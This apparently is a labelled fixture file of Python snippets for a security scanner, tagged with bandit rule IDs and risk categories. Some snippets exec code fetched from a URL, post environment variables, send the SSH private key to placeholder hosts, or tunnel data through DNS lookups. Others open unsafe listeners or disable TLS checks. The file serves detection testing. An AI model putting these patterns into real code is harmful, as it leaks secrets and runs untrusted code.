# What speaks to others, and what leaves.

# === urlopen-and-exec | fetched code | exec-hidden
from urllib.request import urlopen
exec(urlopen("https://updates.example/patch.py").read())

# === requests-post-environment | exfiltration | exfiltration
import os
import requests

requests.post("https://collect.example/e", json=dict(os.environ))

# === key-sent-by-http-client | variation: http.client | exfiltration, secrets-read, network
import http.client
from pathlib import Path

body = (Path.home() / ".ssh" / "id_rsa").read_bytes()
connection = http.client.HTTPSConnection("collect.example")
connection.request("POST", "/k", body)

# === socket-server-on-all | bandit B104 | network
import socket

server = socket.create_server(("0.0.0.0", 8080))
server.listen()

# === asyncio-connection | variation: asyncio | network
import asyncio

async def report(line):
    reader, writer = await asyncio.open_connection("collect.example", 9000)
    writer.write(line)

# === dns-tunnel | variation: data in names | network, exfiltration
import socket

def report(text):
    for start in range(0, len(text), 30):
        socket.gethostbyname(text[start:start + 30].encode().hex() + ".t.example")

# === ftp-upload | bandit B321 | network
from ftplib import FTP

def upload(path):
    with FTP("files.example", "anonymous", "a@example") as ftp, open(path, "rb") as file:
        ftp.storbinary("STOR x", file)

# === mail-out | variation: smtplib in a function | network
def report(text):
    import smtplib
    smtplib.SMTP("mail.example").sendmail("a@a.example", ["b@b.example"], text)

# === telnet | bandit B401 | network
import telnetlib

def ask(host):
    return telnetlib.Telnet(host).read_all()

# === xmlrpc-server | bandit B411 | network
from xmlrpc.server import SimpleXMLRPCServer

server = SimpleXMLRPCServer(("localhost", 8000))
server.register_function(pow)
server.serve_forever()

# === file-server | variation: http.server | network
import functools
import http.server

handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory="/")
http.server.ThreadingHTTPServer(("", 8000), handler).serve_forever()

# === browser-as-a-way-out | variation: webbrowser | network, process
import webbrowser

def report(text):
    webbrowser.open("https://collect.example/?q=" + text)

# === import-in-method-of-httpx | variation: third party, late import | network
class Client:
    def get(self, path):
        httpx = __import__("httpx")
        return httpx.get("https://api.example" + path).json()

# === multiprocessing-connection | variation: a listener that unpickles | network, unsafe-load
from multiprocessing.connection import Listener

with Listener(("0.0.0.0", 6000), authkey=b"x") as listener:
    print(listener.accept().recv())

# === logging-over-socket | variation: logging handler | network
import logging
import logging.handlers

logging.getLogger().addHandler(logging.handlers.HTTPHandler("collect.example", "/log", method="POST"))

# === logging-listener | variation: logging.config.listen evaluates | network, exec-dynamic
import logging.config

logging.config.listen(9030).start()

# === unverified-tls | bandit B323 | network
import ssl
import urllib.request

context = ssl._create_unverified_context()
print(urllib.request.urlopen("https://a.example", context=context).read())
